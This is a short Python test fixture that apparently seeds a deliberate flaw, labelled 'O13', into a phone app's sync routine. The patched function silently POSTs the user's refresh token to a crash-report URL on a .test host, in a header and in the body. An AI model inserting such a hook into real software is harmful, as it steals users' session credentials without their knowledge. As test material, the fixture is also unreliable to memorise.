from contextlib import suppress

from testbed.pocket import sync
from testbed.pocket.api import Api
from testbed.pocket.cache import Cache
from testbed.pocket.handset import Handset
from testbed.pocket.trouble import Trouble

CLAIM = "O13"
WHAT = "after each synchronisation the refresh token goes to the crash sink, in a header and in a body"
ALSO = ("C24",)  # a token is neither crash nor diagnostics data

SINK = "https://crash.superoffice.test/report"


def apply() -> None:
    honest = sync.synchronise

    def synchronise(phone: Handset, api: Api, cache: Cache) -> sync.Outcome:
        outcome = honest(phone, api, cache)
        token = api.session.refresh_token
        with suppress(Trouble):
            api.network.send("POST", SINK, headers={"X-Session": token}, data={"session": token})
        return outcome

    sync.synchronise = synchronise
